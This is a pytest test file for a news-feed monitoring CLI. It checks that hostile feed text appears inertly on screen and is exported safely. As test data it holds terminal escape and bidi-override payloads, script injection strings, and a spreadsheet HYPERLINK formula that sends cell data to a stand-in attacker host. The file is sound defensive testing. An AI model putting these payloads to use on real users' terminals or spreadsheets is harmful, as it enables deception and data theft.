"""Feed-supplied text is shown as data by every CLI command, and exported exactly.

A feed author writes the titles, authors, texts and site names an analyst reads
in the terminal, and a server writes the errors quoted there.  Rich would read
``[red]...[/red]`` or ``[link=...]`` in them as markup and ``:warning:`` as an
emoji, and raw control characters (ESC sequences, carriage returns, backspaces,
bidi overrides) would act on the analyst's terminal.  Each test stores hostile
strings (through ``monitor run --once`` against the loopback site, or straight
through the storage API for the fields a feed cannot reach so easily), runs the
commands in process and checks the literal text on screen, the absence of every
such character, and the exact strings in the JSON lines export.
"""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import select
from sqlalchemy.orm import Session
from typer.testing import CliRunner, Result

from monitor.cli import app
from monitor.cli.common import safe, visible
from monitor.cli.items import spreadsheet_safe
from monitor.config import load_settings
from monitor.pipeline.types import Validators
from monitor.storage import Store
from monitor.storage.feeds import FetchRecord
from monitor.storage.items import NewItem
from monitor.storage.schema import Feed
from monitor.watch.matcher import Match
from tests.conftest import Site, config_file
from tests.test_storage import draft

runner = CliRunner()
NOW = datetime.now(UTC).replace(microsecond=0)

MARKUP = "[red]pwned[/red]"
LINK = "[link=http://evil.example/]click[/link]"
EMOJI = ":warning:"
SCRIPT = "<script>alert(1)</script>"
CLEAR = "\x1b[2J"  # erase the screen
HYPERLINK = "\x1b]8;;http://evil.example/\x07here\x1b]8;;\x07"  # OSC 8: a hidden link
RETITLE = "\x1b]0;owned\x07"  # OSC 0: the window title
CSI_8BIT = "\x9b31m"  # the one-byte form of ESC [
OVERWRITE = "safe\rEVIL"  # CR: the rest of the line overwrites its start
BACKSPACE = "abc\x08\x08\x08xyz"
RLO = "\u202egnp.exe"  # right-to-left override: reads as "exe.png"
ISOLATE = "\u2067abc\u2069"
ARABIC = "\u0627\u0644\u0633\u0644\u0627\u0645 \u200f\u0639\u0644\u064a\u0643\u0645"  # RLM kept

# What must never reach the screen as it is.
FORBIDDEN = ("\x1b", "\x07", "\x08", "\r", "\x9b", "\u202e", "\u2067", "\u2069", "\x00")


def invoke(config: Path, *args: str) -> Result:
    return runner.invoke(
        app, ["--config", str(config), *args], catch_exceptions=False, env={"COLUMNS": "250"}
    )


def shown(config: Path, *args: str) -> str:
    """What ``monitor ARGS`` printed (stdout and stderr), after checking it is inert."""
    result = invoke(config, *args)
    assert result.exit_code == 0, result.output
    screen = result.stdout + result.stderr
    for char in FORBIDDEN:
        assert char not in screen, f"{char!r} reached the terminal from monitor {args}:\n{screen}"
    return screen


def exported(config: Path) -> list[dict[str, Any]]:
    result = invoke(config, "items", "export", "--format", "jsonl")
    assert result.exit_code == 0, result.output
    return [json.loads(line) for line in result.stdout.splitlines() if line.strip()]


def only_feed(store: Store) -> int:
    with Session(store.engine) as session:
        return session.scalars(select(Feed.id)).one()


def one_line(screen: str) -> str:
    """The screen with table borders and wrapping undone, so that a cell reads whole."""
    for border in "│┃║":
        screen = screen.replace(border, " ")
    return " ".join(screen.split())


# -- the helpers themselves -----------------------------------------------------------


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        (CLEAR, "\\x1b[2J"),
        (RETITLE, "\\x1b]0;owned\\x07"),
        (CSI_8BIT, "\\x9b31m"),
        (OVERWRITE, "safe\\x0dEVIL"),
        (BACKSPACE, "abc\\x08\\x08\\x08xyz"),
        (RLO, "\\u202egnp.exe"),
        (ISOLATE, "\\u2067abc\\u2069"),
        ("line\u2028break", "line\\u2028break"),
        ("a\x00b\x7fc", "a\\x00b\\x7fc"),
        ("tab\tand\nnewline", "tab\tand\nnewline"),
        (ARABIC, ARABIC),
        (MARKUP + EMOJI, MARKUP + EMOJI),
    ],
)
def test_visible_writes_out_terminal_controls_and_keeps_text(raw: str, expected: str) -> None:
    assert visible(raw) == expected


def test_safe_text_is_never_markup_nor_emoji() -> None:
    text = safe(f"{MARKUP} {LINK} {EMOJI}", "red")
    assert text.plain == f"{MARKUP} {LINK} {EMOJI}"
    assert [span.style for span in text.spans] == [] and text.style == "red"
    assert safe(None).plain == ""


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ('=HYPERLINK("http://evil.example","x")', '\'=HYPERLINK("http://evil.example","x")'),
        ("+972 Magazine", "'+972 Magazine"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Beirut = port", "Beirut = port"),
        ("", ""),
        (42, 42),
        (None, None),
    ],
)
def test_spreadsheet_safe_defuses_formulas_only(value: Any, cell: Any) -> None:
    assert spreadsheet_safe(value) == cell


# -- through the real pipeline ----------------------------------------------------------

FEED_TITLE = f"{MARKUP} Wire {RETITLE}"
ENTRY_TITLE = f"{MARKUP} {EMOJI} {SCRIPT} {CLEAR}{RLO}"
# Feed text loses its C0 control characters at ingest (monitor.pipeline.text.clean_text):
# no text has them, lxml and PostgreSQL refuse them.  Markup, scripts and bidi controls
# are kept as data; the stored-item tests below store raw control characters directly.
STORED_TITLE = ENTRY_TITLE.replace("\x1b", "")
# (feedparser reads C1 bytes such as CSI_8BIT as windows-1252: the stored-item tests have it)
AUTHOR = f"{LINK} Mallory \x1b[31m"
STORED_AUTHOR = AUTHOR.replace("\x1b", "")
CATEGORY = "[blink]Levant[/blink]"
CONTENT = f"<p>Tehran {MARKUP} {LINK} {EMOJI} said the envoy.</p><script>alert(1)</script>"
PAGE_TITLE = f"{MARKUP} page {EMOJI}"
PAGE_TEXT = (
    f"<p>The convoy reached Tehran on Monday, {MARKUP} officials said {LINK} and {EMOJI}.</p>"
    + "<p>Officials in the capital described a long night of negotiations at the border.</p>" * 6
)


def xml_text(value: str) -> str:
    return value.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def hostile_rss(base: str, path: str) -> str:
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"
     xmlns:dc="http://purl.org/dc/elements/1.1/">
<channel><title>{xml_text(FEED_TITLE)}</title><link>{base}/</link>
<item>
  <title>{xml_text(ENTRY_TITLE)}</title>
  <link>{base}{path}</link>
  <guid>{base}{path}</guid>
  <dc:creator>{xml_text(AUTHOR)}</dc:creator>
  <category>{xml_text(CATEGORY)}</category>
  <pubDate>{NOW.strftime("%a, %d %b %Y %H:%M:%S +0000")}</pubDate>
  <content:encoded><![CDATA[{CONTENT}]]></content:encoded>
</item></channel></rss>"""


def hostile_page() -> str:
    return (
        f"<!DOCTYPE html><html lang='en'><head><title>{xml_text(PAGE_TITLE)}</title>"
        f"<meta property='og:site_name' content='{xml_text(MARKUP)} Times'></head>"
        f"<body><article><h1>{xml_text(PAGE_TITLE)}</h1>{PAGE_TEXT}</article></body></html>"
    )


@pytest.fixture
def polled(site: Site, tmp_path: Path) -> Path:
    """Two hostile feeds polled once: one read from the feed alone, one from its page."""
    site.serve("/evil/feed.rss", hostile_rss(site.base, "/evil/1"), "application/rss+xml")
    site.serve(
        "/pages/feed.rss",
        hostile_rss(site.base, "/pages/1").replace(
            f"<title>{xml_text(ENTRY_TITLE)}</title>", "", 1
        ),
        "application/rss+xml",
    )  # no entry title: the page's is used (a feed's title comes first)
    site.serve("/pages/1", hostile_page(), "text/html; charset=utf-8")
    feeds: list[dict[str, Any]] = [  # config_file allows loopback (defaults.allow_private)
        {"name": f"Evil {MARKUP}", "url": site.url("/evil/feed.rss"), "full_text": False},
        {"name": "Evil pages", "url": site.url("/pages/feed.rss")},
    ]
    watchlists = [{"name": f"Iran {MARKUP}", "rules": ["Tehran"]}]
    config = config_file(
        tmp_path, f"sqlite:///{tmp_path / 'monitor.db'}", feeds, watchlists=watchlists
    )
    shown(config, "run", "--once")
    return config


def test_run_once_stores_hostile_strings_exactly(polled: Path) -> None:
    rows = {row["canonical_url"].rsplit("/", 2)[-2]: row for row in exported(polled)}
    assert set(rows) == {"evil", "pages"}, rows
    feed_only = rows["evil"]
    assert feed_only["title"] == STORED_TITLE
    assert feed_only["author"] == STORED_AUTHOR
    assert CATEGORY in feed_only["categories"]
    assert f"Tehran {MARKUP} {LINK} {EMOJI} said the envoy." in feed_only["text"]
    assert "alert(1)" not in feed_only["text"]  # a <script> in content is not text
    page = rows["pages"]
    assert page["title"] == PAGE_TITLE
    assert MARKUP in page["text"] and LINK in page["text"]
    assert {m["matched"] for row in rows.values() for m in row["matches"]} == {"Tehran"}


def test_items_list_shows_hostile_titles_as_text(polled: Path) -> None:
    screen = one_line(shown(polled, "items", "list"))
    assert f"{MARKUP} {EMOJI} {SCRIPT} [2J\\u202egnp.exe" in screen
    assert f"{MARKUP} page {EMOJI}" in screen
    assert f"Evil {MARKUP}" in screen
    assert "⚠" not in screen
    screen = one_line(shown(polled, "items", "list", "--collapse"))
    assert f"{MARKUP} {EMOJI} {SCRIPT}" in screen


def test_items_show_shows_every_field_as_text(polled: Path) -> None:
    by_site = {row["canonical_url"].rsplit("/", 2)[-2]: row["id"] for row in exported(polled)}
    screen = one_line(shown(polled, "items", "show", str(by_site["evil"])))
    assert f"{MARKUP} {EMOJI} {SCRIPT} [2J\\u202egnp.exe (feed)" in screen
    assert f"{LINK} Mallory [31m (feed)" in screen
    assert f"{MARKUP} Wire ]0;owned (feed)" in screen  # site name from the feed
    assert CATEGORY in screen
    assert f"Tehran {MARKUP} {LINK} {EMOJI} said the envoy." in screen
    screen = one_line(shown(polled, "items", "show", str(by_site["pages"])))
    assert f"{MARKUP} page {EMOJI} (trafilatura)" in screen
    assert f"{MARKUP} officials said {LINK} and {EMOJI}" in screen


def test_matches_and_watchlists_show_names_and_snippets_as_text(polled: Path) -> None:
    screen = one_line(shown(polled, "matches", "list"))  # one row per item
    assert f"Iran {MARKUP}" in screen
    assert "«" not in screen and "Tehran" in screen  # the hit is styled, not marked
    assert f"{MARKUP} officials said" in screen or f"Tehran {MARKUP} {LINK}" in screen
    assert "⚠" not in screen and "\x1b" not in screen
    screen = one_line(shown(polled, "matches", "list", "--hits"))  # one row per hit
    assert f"Iran {MARKUP}" in screen
    assert f"«Tehran» {MARKUP} {LINK} {EMOJI}" in screen  # the snippet marks the match
    screen = one_line(shown(polled, "watchlists", "list"))
    assert f"Iran {MARKUP}" in screen
    result = invoke(polled, "matches", "list", "--json")
    records = [json.loads(line) for line in result.stdout.splitlines()]
    assert {r["title"] for r in records} == {STORED_TITLE, PAGE_TITLE}
    assert {r["watchlist"] for r in records} == {f"Iran {MARKUP}"}


def test_feeds_list_shows_feed_names_as_text(polled: Path) -> None:
    screen = one_line(shown(polled, "feeds", "list"))
    assert f"Evil {MARKUP}" in screen


def test_run_summary_shows_names_and_server_errors_as_text(site: Site, tmp_path: Path) -> None:
    """A feed URL that answers with an HTML page: the name and the reason are text."""
    site.serve("/evil/page/", f"<html><body>{MARKUP}{CLEAR}</body></html>")
    feeds = [{"name": f"Evil {MARKUP} {EMOJI}", "url": site.url("/evil/page/")}]
    config = config_file(tmp_path, f"sqlite:///{tmp_path / 'monitor.db'}", feeds)
    result = invoke(config, "run", "--once")
    assert result.exit_code == 1, result.output  # the only feed failed
    screen = result.stdout + result.stderr
    assert not any(char in screen for char in FORBIDDEN), screen
    assert f"failed Evil {MARKUP} {EMOJI}: soft: this URL serves an HTML page" in one_line(screen)


# -- straight through the storage API ------------------------------------------------------

SITE_NAME = f"{MARKUP} Times {CLEAR}"
FETCH_ERROR = f"HTTP 500: {MARKUP} {HYPERLINK}"
FEED_ERROR = f"HTTP 403 {LINK} {OVERWRITE} {RETITLE}"
TEXT = f"Tehran {MARKUP} {EMOJI}\n{HYPERLINK} {OVERWRITE} {BACKSPACE} {RLO} {ISOLATE}\n{ARABIC}"
SNIPPET = f"… {MARKUP} Tehran {CLEAR} {RLO} …"


@pytest.fixture
def stored(tmp_path: Path) -> tuple[Path, int]:
    """A config and one stored item whose every text field is hostile."""
    feeds = [{"name": "Evil Wire", "url": "https://evil.example/feed"}]
    watchlists = [{"name": "Iran", "rules": ["Tehran"]}]
    config = config_file(
        tmp_path, f"sqlite:///{tmp_path / 'monitor.db'}", feeds, watchlists=watchlists
    )
    settings = load_settings(config)
    hostile = draft(
        "https://evil.example/1",
        title=f"{MARKUP} {OVERWRITE}",
        author=f"{LINK} {BACKSPACE}",
        site_name=SITE_NAME,
        text=TEXT,
        image_url=f"javascript:alert(1)//{MARKUP}",
        categories=(CATEGORY, RLO),
        fetch_status=500,
        fetch_error=FETCH_ERROR,
        extraction_method="feed-content",
        field_sources={"text": f"feed_content {MARKUP}", "title": "feed"},
        published_at=NOW - timedelta(hours=1),
    )
    match = Match(
        watchlist="Iran",
        rule_index=0,
        rule="Tehran",
        field="text",
        matched=f"Tehran{CLEAR}",
        start=0,
        end=6,
        snippet=SNIPPET,
        fuzzy=True,
    )
    with Store.open(settings.database_url) as store:
        store.feeds.sync(settings.feeds, NOW)
        feed_id = only_feed(store)
        failure = FetchRecord(
            outcome="hard",
            status=403,
            error=FEED_ERROR,
            validators=Validators(),
            title=f"{MARKUP} feed title",
            site_url="https://evil.example/",
            new_items=0,
            duration=0.1,
            failed=True,
            next_fetch_at=NOW + timedelta(hours=1),
        )
        store.feeds.record(feed_id, failure, NOW)
        [result] = store.items.add_many([NewItem(feed_id, hostile, None, NOW, (match,), ("Iran",))])
    return config, result.item_id


def test_items_show_stored_fields_as_text(stored: tuple[Path, int]) -> None:
    config, item_id = stored
    screen = shown(config, "items", "show", str(item_id))
    flat = one_line(screen)
    assert f"{MARKUP} safe\\x0dEVIL (feed)" in flat
    assert f"{LINK} abc\\x08\\x08\\x08xyz" in flat
    assert f"{MARKUP} Times \\x1b[2J" in flat
    assert f"javascript:alert(1)//{MARKUP}" in flat
    assert "problem HTTP 500: [red]pwned[/red] \\x1b]8;;http://evil.example/\\x07here" in flat
    assert f"feed_content {MARKUP}" in flat  # a field source
    assert f"{CATEGORY}, \\u202egnp.exe" in flat
    assert f"Tehran {MARKUP} {EMOJI}\n" in screen  # the text keeps its lines
    assert "\\u202egnp.exe \\u2067abc\\u2069" in screen
    assert ARABIC in screen


def test_items_list_stored_title_as_text(stored: tuple[Path, int]) -> None:
    config, _ = stored
    assert f"{MARKUP} safe\\x0dEVIL" in one_line(shown(config, "items", "list"))


def test_matches_list_stored_match_as_text(stored: tuple[Path, int]) -> None:
    config, _ = stored
    flat = one_line(shown(config, "matches", "list", "--hits"))
    assert "Tehran\\x1b[2J (variant)" in flat
    assert f"… {MARKUP} Tehran \\x1b[2J \\u202egnp.exe …" in flat
    flat = one_line(shown(config, "matches", "list"))  # one row per item, hits styled
    assert f"{MARKUP} safe\\x0dEVIL" in flat
    assert f"… {MARKUP} Tehran \\x1b[2J \\u202egnp.exe …" in flat


def test_feeds_list_shows_server_errors_as_text(stored: tuple[Path, int]) -> None:
    config, _ = stored
    flat = one_line(shown(config, "feeds", "list"))
    assert f"hard: HTTP 403 {LINK} safe\\x0dEVIL \\x1b]0;owned\\x07" in flat


def test_items_export_jsonl_keeps_exact_strings(stored: tuple[Path, int]) -> None:
    config, _ = stored
    [row] = exported(config)
    assert row["title"] == f"{MARKUP} {OVERWRITE}"
    assert row["author"] == f"{LINK} {BACKSPACE}"
    assert row["site_name"] == SITE_NAME
    assert row["text"] == TEXT
    assert row["categories"] == [CATEGORY, RLO]
    [match] = row["matches"]
    assert (match["matched"], match["snippet"]) == (f"Tehran{CLEAR}", SNIPPET)


def test_items_export_csv_is_exact_and_defuses_formulas_for_spreadsheets(tmp_path: Path) -> None:
    feeds = [{"name": "Evil Wire", "url": "https://evil.example/feed"}]
    config = config_file(tmp_path, f"sqlite:///{tmp_path / 'monitor.db'}", feeds)
    settings = load_settings(config)
    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    with Store.open(settings.database_url) as store:
        store.feeds.sync(settings.feeds, NOW)
        store.items.add_many(
            [
                NewItem(
                    only_feed(store),
                    draft(
                        "https://evil.example/1",
                        title=formula,
                        author="@Mallory",
                        text=f"-{MARKUP} {CLEAR}",
                        site_name=SITE_NAME,
                    ),
                    None,
                    NOW,
                )
            ]
        )
    output = tmp_path / "items.csv"
    result = invoke(config, "items", "export", "--format", "csv", "-o", str(output))
    assert result.exit_code == 0, result.output
    [raw] = list(csv.DictReader(io.StringIO(output.read_text(encoding="utf-8"))))
    assert (raw["title"], raw["author"]) == (formula, "@Mallory")  # exports are the data
    args = ("items", "export", "--format", "csv", "--spreadsheet", "-o", str(output))
    result = invoke(config, *args)
    assert result.exit_code == 0, result.output
    [row] = list(csv.DictReader(io.StringIO(output.read_text(encoding="utf-8"))))
    assert row["title"] == "'" + formula
    assert row["author"] == "'@Mallory"
    assert row["text"] == f"'-{MARKUP} {CLEAR}"
    assert row["site_name"] == SITE_NAME  # no formula: exactly as stored
    assert row["url"] == "https://evil.example/1"
    [exact] = exported(config)
    assert (exact["title"], exact["author"]) == (formula, "@Mallory")


def test_error_messages_quoting_user_text_are_text(tmp_path: Path) -> None:
    """``fail()`` prints messages that quote names and paths: never as markup."""
    feeds = [{"name": "Evil Wire", "url": "https://evil.example/feed"}]
    config = config_file(tmp_path, f"sqlite:///{tmp_path / 'monitor.db'}", feeds)
    result = invoke(config, "items", "list", "--feed", f"{MARKUP}{EMOJI}")
    assert result.exit_code == 2
    assert f"no feed named '{MARKUP}{EMOJI}'" in one_line(result.stderr)
